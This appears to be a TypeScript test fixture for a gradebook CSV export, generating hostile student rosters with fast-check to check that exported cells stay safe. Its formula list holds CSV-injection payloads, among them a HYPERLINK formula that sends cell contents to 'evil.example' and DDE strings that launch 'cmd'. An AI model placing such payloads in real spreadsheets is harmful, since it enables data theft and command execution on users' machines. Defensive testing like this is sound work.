import fc from 'fast-check';
import type { GradeColumn, GradeRow } from '../../../src/export/cells.ts';
import { hostileText } from '../../report/hostile.ts';

export const columns: GradeColumn[] = [
  { lab: '01-address', title: 'Lab 1: Address', maxPoints: 100, assignmentId: '7001' },
  { lab: '02-person', title: 'Lab 2: Person', maxPoints: 50, assignmentId: '7002' },
];

/** Three of a class: all points, one result missing, none at all. */
export const ada = person('ada', 'Lovelace, Ada', { '01-address': 97.25, '02-person': 0 });
export const grace = person('grace', 'Hopper, Grace', { '01-address': -2.5, '02-person': null });
export const alan = person('alan', 'Turing, Alan', { '01-address': null });
export const roster = [ada, grace, alan];

export function person(id: string, name: string, points: GradeRow['points'] = {}, group = 'A'): GradeRow {
  return { member: { id, name, email: `${id}@example.edu`, group }, points };
}

/** What a spreadsheet would evaluate, or what its writers forget. */
export const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"ada")',
  '+1+1',
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '−1',
  '﹦1+1',
];

const names = [
  'O"Neil, "Shaq"',
  'Ada\nLovelace',
  'a;b',
  "'",
  '""',
  ',,,',
  'Points Possible',
  '   ',
  '',
  '-5',
  '1e5',
  'NaN',
];

const text = fc.oneof(fc.constantFrom(...formulas, ...names), hostileText);

const points = fc.oneof(
  fc.constantFrom(null, 0, -0, 100, 17.3, -2.5, Number.NaN, Infinity, -Infinity, 1e-9, 1 / 3, 0.1 + 0.2),
  fc.constantFrom('97', '=1+1', undefined, [], true) as unknown as fc.Arbitrary<number | null>,
);

/** A class whose members chose their names, addresses and groups to do harm, with numbers that are none. */
export const hostileRoster: fc.Arbitrary<GradeRow[]> = fc.array(
  fc.record({
    member: fc.record({ id: text, name: text, email: fc.oneof(text, fc.emailAddress()), group: text }),
    points: fc.record({ '01-address': points, '02-person': points }),
  }),
  { maxLength: 12 },
);

/** What no cell of any file may have: controls, bidi overrides, half characters. */
export const harmful = /[\p{Cc}\p{Cs}\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]/u;
